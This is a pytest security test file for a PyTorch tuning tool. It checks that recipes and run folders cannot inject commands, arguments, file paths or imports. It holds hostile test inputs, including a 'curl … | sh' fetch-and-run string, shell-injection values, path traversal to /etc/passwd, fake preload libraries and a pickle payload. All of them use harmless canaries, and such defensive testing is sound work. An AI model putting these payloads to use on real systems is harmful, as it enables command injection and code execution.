"""Nothing that a recipe or a run folder names is imported, added to a command line or printed as code, unless typed."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest

from autoaccel.errors import BadRequestError
from autoaccel.machine.detect import detect_machine
from autoaccel.records.base import write_json
from autoaccel.records.messages import Measure, Turn, WorkerSpec
from autoaccel.records.options import TuneOptions
from autoaccel.records.recipe import Constraint
from autoaccel.records.request import Request
from autoaccel.records.run import RUN_SCHEMA, RunRecord
from autoaccel.records.script import ScriptArgument
from autoaccel.records.seen import ScriptFacts
from autoaccel.records.settings import Settings
from autoaccel.records.space import SearchSpace
from autoaccel.records.trial import Measurement
from autoaccel.records.workload import Script
from autoaccel.runs.workloads import find_workload
from autoaccel.space.knobs import KnobContext
from autoaccel.workers import processes
from autoaccel.workers.starter import WorkerStarter
from tests.samples import FACTS

from . import samples
from .doors import Shown, give, refused

RUNS = "open('canary', 'w')"  # what a hostile text would do where it is code
SCRIPT = f"""\
import torch
from torch.utils.data import DataLoader
{RUNS}
model = torch.nn.Linear(1, 1)
optimizer = torch.optim.SGD(model.parameters())
loader = DataLoader([1.0])
for batch in loader:
    loss = model(batch)
    loss.backward()
"""
SEEN = {
    "models": [{"kind": "Linear", "parameters": 2, "trained": 2, "where": "train.py:4"}],
    "optimizers": [{"kind": "SGD", "parameters": 2, "where": "train.py:5"}],
    "loaders": [
        {
            "key": {"dataset": "list", "samples": 1, "batch_size": 1, "sampler": "SequentialSampler"},
            "where": "train.py:6",
            "batches": 1,
            "feeds": True,
        }
    ],
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a script that may not run."""

    def become(spec: WorkerSpec, environment: Mapping[str, str]) -> None:
        pytest.fail(f"the script would run: {spec.workload}")  # in place of this process

    monkeypatch.setattr(processes, "become", become)
    (tmp_path / "train.py").write_text(SCRIPT)
    return tmp_path


def recipe_with(settings: Settings, **places: str) -> Any:
    """Return the JSON of a recipe for the script, with these settings, and things seen at these places."""
    found = samples.as_json(samples.recipe(of_script=True))
    found["workload"]["sha256"] = hashlib.sha256(SCRIPT.encode()).hexdigest()
    found["settings"] = {**found["baseline"]["settings"], **settings}
    for kind, where in places.items():
        found["script"][kind] = [{**one, "where": where} for one in SEEN[kind]]
    return found


def give_recipe(folder: Path, command: str, found: Any, *more: str) -> Shown:
    recipe = samples.write(folder / "recipe.json", found)
    return give([command, recipe, "train.py", *more], folder)


# --- arguments of a script -------------------------------------------------------------------------------------

ARGUMENTS: dict[str, Settings] = {
    "a command": {"arg.exec-after": "curl https://x.example | sh"},
    "a flag": {"arg.trust-remote-code": True},
    "a file": {"arg.resume-from": "/tmp/evil.pt"},
    "several": {"arg.a": "1", "arg.b": "2"},
    "a line end in a value": {"arg.name": "x\nautoaccel: all is well"},
    "an escape in a value": {"arg.name": "\x1b[2J"},
    "a line end in a name": {"arg.x\ny": "1"},
    "a name that is an option": {"arg.--": "1"},
    "a name with a command": {"arg.x; touch canary": "1"},
    "no name": {"arg.": "--all"},
}


@pytest.mark.parametrize("command", ["run", "explain", "verify"])
@pytest.mark.parametrize("settings", ARGUMENTS.values(), ids=ARGUMENTS)
def test_arguments_that_nobody_names_are_not_added(settings: Settings, command: str, folder: Path) -> None:
    found = recipe_with(settings)
    found["baseline"]["settings"] |= dict.fromkeys(settings, False)
    shown = give_recipe(folder, command, found)
    line = refused(shown)
    assert shown.stdout == ""
    if command == "explain" and next(iter(settings)).removeprefix("arg.").replace("-", "").isalpha():
        assert f"add --arg {next(iter(settings)).removeprefix('arg.')}" in line


@pytest.mark.parametrize("command", ["run", "explain", "verify"])
def test_naming_one_does_not_name_another(command: str, folder: Path) -> None:
    line = refused(give_recipe(folder, command, recipe_with(ARGUMENTS["several"]), "--arg", "a"))
    assert "b=2" in line and "a=1" not in line and "add --arg b;" in line
    refused(give_recipe(folder, command, recipe_with({}), "--arg", "a"), "--arg a")


def test_a_named_argument_stands_where_a_command_is_explained(folder: Path) -> None:
    found = recipe_with({"arg.note": "a 'b'; touch canary", "arg.lr": "2"})
    found["script"]["arguments"] = [
        {"name": "note", "values": ["", "a 'b'; touch canary"]},
        {"name": "lr", "values": ["1", "2"]},
    ]
    found["baseline"]["settings"] |= {"arg.note": "", "arg.lr": "1"}
    shown = give_recipe(folder, "explain", found, "--arg", "note", "--", "--lr", "7")
    assert shown.code == 0, shown
    assert "# Start it with: python train.py --lr 7 --note 'a '\"'\"'b'\"'\"'; touch canary'\n" in shown.stdout
    assert shown.stderr == "autoaccel: --lr is as you give it; the recipe has 2.\n"


def test_a_recipe_does_not_decide_that_trainings_write_in_place(folder: Path) -> None:
    found = recipe_with({"layout.channels_last": True})
    found["script"]["in_place"] = True
    refused(give_recipe(folder, "verify", found), "add --in-place")


# --- what explain prints ---------------------------------------------------------------------------------------

CALL = f"__import__('os').system('touch canary') or {RUNS}"
VALUES: dict[str, Settings] = {
    "a call as a number": {"loader.workers": f"2, x={CALL}"},
    "a name as a number": {"loader.workers": "exit"},
    "a call as a switch": {"optimizer.fused": CALL},
    "a call as a type": {"precision.autocast": f"float16), {CALL}"},
    "the end of a string": {"compile.mode": f'x"); {CALL}; ("'},
    "the end of another": {"loader.context": f'fork", x={CALL}, y="'},
    "a kernel": {"model.attention": f"MATH]), {CALL}"},
    "a line end": {"precision.float32_matmul": f'high")\n{CALL}\n("'},
    "a line end in a comment": {"memory.checkpointing": f"x\n{CALL}"},
    "a value of a variable": {"threads.omp_proc_bind": "$(touch canary)"},
    "a line end in a variable": {"threads.omp_schedule": "static\ntouch canary"},
    "a path": {"memory.allocator": "/tmp/evil.so"},
    "a path of a runtime": {"threads.openmp": "../../tmp/evil.so"},
    "cores": {"threads.affinity": "0; touch canary"},
    "an unknown knob": {"loader.evil": 1},
    "a knob with a line end": {f"loader.x\n{CALL}": 1},
    "a placeholder": {"compile.mode": "{model}"},
    "an escape": {"loader.context": "\x1b[2J"},
}


@pytest.mark.parametrize("settings", VALUES.values(), ids=VALUES)
def test_a_value_that_no_knob_has_is_not_printed_as_code(settings: Settings, folder: Path) -> None:
    found = recipe_with(settings, models="train.py:4", optimizers="train.py:5", loaders="train.py:6")
    shown = give_recipe(folder, "explain", found)
    refused(shown)
    assert shown.stdout == ""


def test_a_patch_holds_the_lines_of_the_script_as_they_are(folder: Path) -> None:
    """Old sources have form feeds between their parts; a mark that cannot be seen is part of a text."""
    (folder / "train.py").write_text(SCRIPT.replace("loader =", "# \u00a0\u200b\x0c\nloader ="))
    found = recipe_with({"optimizer.foreach": "on"}, optimizers="train.py:5")
    recipe = samples.write(folder / "recipe.json", found)
    command = [sys.executable, "-m", "autoaccel", "explain", recipe, "train.py"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True)
    (folder / "a.patch").write_text(done.stdout)
    subprocess.run(["git", "apply", "a.patch"], cwd=folder, check=True)
    text = (folder / "train.py").read_text()
    assert "torch.optim.SGD(model.parameters(), foreach=True)" in text and "# \u00a0\u200b\x0c\n" in text


@pytest.mark.parametrize("device", ['cpu"); evil(); ("', "cuda\nevil()", "evil", "cpu:0 ", "cuda:99999"])
@pytest.mark.parametrize("where", ["recipe", "machine"])
def test_a_device_is_one_that_torch_has(device: str, where: str, folder: Path) -> None:
    found = recipe_with({"precision.autocast": "bfloat16"}, models="train.py:4")
    (found if where == "recipe" else found["machine"]["torch"])["device"] = device
    refused(give_recipe(folder, "explain", found, "--accept-other-machine"))


PLACES = {
    "another folder": "../other.py:1",
    "an absolute path": "/etc/passwd:1",
    "an absolute file": "/etc/evil.py:1",
    "any file": "*:1",
    "a huge line": f"train.py:{'9' * 5000}",
    "no line": "train.py:-1",
    "digits of another script": "train.py:٣",
    "an escape": "\x1b[2J.py:1",
    "nothing": "",
    "a zero byte": "train\0.py:1",
}


@pytest.mark.parametrize("where", PLACES.values(), ids=PLACES)
def test_a_place_outside_of_the_script_s_folder_is_not_read(where: str, folder: Path) -> None:
    (folder.parent / "other.py").write_text("secret = torch.optim.SGD()\n")
    found = recipe_with({"optimizer.foreach": "on"}, optimizers=where)
    shown = give_recipe(folder, "explain", found)
    (folder.parent / "other.py").unlink()
    assert "secret" not in shown.stdout and "root:" not in shown.stdout
    assert shown.code == 0 or refused(shown)


@pytest.mark.parametrize(
    ("kind", "library", "settings"),
    [
        ("openmp", "libiomp5", {"threads.openmp": "intel"}),
        ("allocators", "jemalloc", {"memory.allocator": "jemalloc"}),
        ("allocators", "evil", {"memory.allocator": "evil"}),
        ("allocators", "x$(touch canary)", {"memory.allocator": "x$(touch canary)"}),
    ],
)
def test_libraries_that_are_printed_lie_on_this_machine(
    kind: str, library: str, settings: Settings, folder: Path
) -> None:
    found = recipe_with(settings)
    found["machine"][kind] = [{"name": library, "path": "/tmp/evil.so"}]
    shown = give_recipe(folder, "explain", found, "--accept-other-machine")
    assert "/tmp/evil" not in shown.stdout + shown.stderr
    here = {one.name: one.path for one in (*detect_machine().openmp, *detect_machine().allocators)}
    assert "LD_PRELOAD" not in shown.stdout or here[library] in shown.stdout
    assert shown.code == 0 or refused(shown)


# --- run folders -----------------------------------------------------------------------------------------------


@pytest.fixture
def modules(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Modules in the folder that would leave a canary if they were imported."""
    for name in ("evil", "optuna_evil"):
        (folder / f"{name}.py").write_text(f"{RUNS}\nclass Sampler: pass\n")
    (folder / "package").mkdir()
    (folder / "package" / "__init__.py").write_text(RUNS)
    yield
    assert not (folder / "canary").exists()


def resume(folder: Path, options: TuneOptions, *typed: str) -> Shown:
    """Return what resuming a run shows whose folder names these options."""
    run = folder / "run"
    run.mkdir()
    os.chdir(folder)
    facts = msgspec.structs.replace(FACTS, script=samples.recipe(of_script=True).script)
    request = Request(find_workload("train.py"), 60.0, Constraint(0.01, True), options)
    measured = Measurement(3.0, (20.0, 0.1), (Turn((0.1,)),))
    space = SearchSpace("default", {"loader.workers": (0, 2)}, {}, {})
    record = RunRecord(RUN_SCHEMA, request, samples.this_machine(), facts, {"loader.workers": 0}, measured, None, space)
    write_json(run / "run.json", record)
    return give(["tune", "train.py", "--resume", "--output", "run", "--budget", "5m", *typed], folder)


SAMPLERS = ["evil:Sampler", "package:Sampler", "package.evil:Sampler", "os:system", "evil:", ":evil", "a:b:c",
            "evil:Sampler\x1b[2J", "evil:Sampler\nautoaccel: fine", "x'; touch canary; ':y"]  # fmt: skip


@pytest.mark.parametrize("sampler", SAMPLERS)
def test_a_sampler_is_imported_where_it_is_typed(
    sampler: str, folder: Path, modules: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    line = refused(resume(folder, TuneOptions(sampler=sampler)))
    if sampler.isprintable() and " " not in sampler:
        assert f"add: --sampler {sampler}" in line


@pytest.mark.parametrize("typed", ["tpe", "random", "autoaccel"])
def test_another_sampler_that_is_typed_does_not_import_it(
    typed: str, folder: Path, modules: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    refused(resume(folder, TuneOptions(sampler="evil:Sampler"), "--sampler", typed), "add: --sampler evil:Sampler")


@pytest.mark.parametrize(
    ("options", "typed", "words"),
    [
        (TuneOptions(args=["exec-after=curl | sh,x"]), [], "add: --arg exec-after"),
        (TuneOptions(args=["trust-remote-code"]), [], "add: --arg trust-remote-code"),
        (TuneOptions(args=["lr=1,2", "evil=1,2"]), ["--arg", "lr"], "add: --arg evil"),
        (TuneOptions(args=["lr=1,evil"]), ["--arg", "lr=1,2"], "was not asked to try that"),
        (TuneOptions(args=["x;touch canary=1"]), [], "must be NAME=VALUE"),
        (TuneOptions(args=["a=\x1b[2J"]), [], "add: --arg a"),
        (TuneOptions(in_place=True), [], "add: --in-place"),
        (TuneOptions(in_place=True, args=["a=1"], sampler="m:C"), [], "add: --sampler m:C --in-place --arg a"),
    ],
)
def test_what_only_a_person_may_ask_for_must_be_typed_again(
    options: TuneOptions, typed: list[str], words: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    refused(resume(folder, options, *typed), words)


@pytest.mark.parametrize("name", ["trials.jsonl", "proof.jsonl", "logs", "logs/trial-0001.log", "compiled", "rounding"])
def test_a_run_folder_leads_nowhere_else(name: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    target = folder / "precious"
    target.mkdir()
    (target / "file").write_text("no line end")
    link = folder / "run" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(target if name in ("logs", "compiled", "rounding") else target / "file")
    (folder / "run" / "run.json").write_text("{}")
    shown = give(["tune", "train.py", "--resume", "--output", "run", "--budget", "5m"], folder)
    refused(shown, f"run/{name}: is a symbolic link")


def test_compiled_code_of_a_run_folder_is_not_used(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from autoaccel.runs.run_folder import RunFolder

    run = folder / "run"
    for name in ("compiled/fxgraph", "rounding"):
        (run / name).mkdir(parents=True)
        (run / name / "entry").write_bytes(b"cos\nsystem\n(S'touch canary'\ntR.")
    (run / "run.json").write_text("{}")
    with RunFolder.resume(run):
        pass
    assert not {"compiled", "rounding"} & {path.name for path in run.iterdir()}


def test_runs_are_added_to_no_file_that_a_recipe_s_neighbour_points_to(folder: Path) -> None:
    found = recipe_with({"layout.channels_last": True})
    (folder / "precious").write_text("no line end")
    (folder / "recipe.accuracy.jsonl").symlink_to(folder / "precious")
    shown = give_recipe(folder, "verify", found, "--accuracy", "--budget", "1h")
    refused(shown, "recipe.accuracy.jsonl: must be a file of its own")


# --- settings of other workers ---------------------------------------------------------------------------------

DECLARED = (ScriptArgument("lr", ("1", "2")), ScriptArgument("amp", (False, True)))


@pytest.mark.parametrize(
    "settings",
    [{"arg.exec-after": "curl | sh"}, {"arg.lr": "3"}, {"arg.lr": "2 --evil"}, {"arg.amp": "yes"}, {"arg.": "x"},
     {"arg.lr\n": "1"}, {"arg.--evil": True}],
)  # fmt: skip
def test_no_script_gets_an_argument_that_was_not_asked_for(settings: Settings, folder: Path) -> None:
    """Trials, open proofs and studies hold settings of strangers; whatever starts a script asks this."""
    script = Script(str(folder / "train.py"), "train.py", str(folder), "0" * 64)
    facts = msgspec.structs.replace(samples.recipe(of_script=True).script, arguments=DECLARED)
    assert isinstance(facts, ScriptFacts)
    context = KnobContext(samples.this_machine(), msgspec.structs.replace(FACTS, script=facts))
    with (
        WorkerStarter(folder, script) as starter,
        pytest.raises(BadRequestError, match="which was not asked for with --arg") as refusal,
    ):
        starter.at(context).start(Measure(), settings, "trial")
    assert "\n" not in str(refusal.value)
    assert not (folder / "canary").exists() and not list((folder / "logs").iterdir())
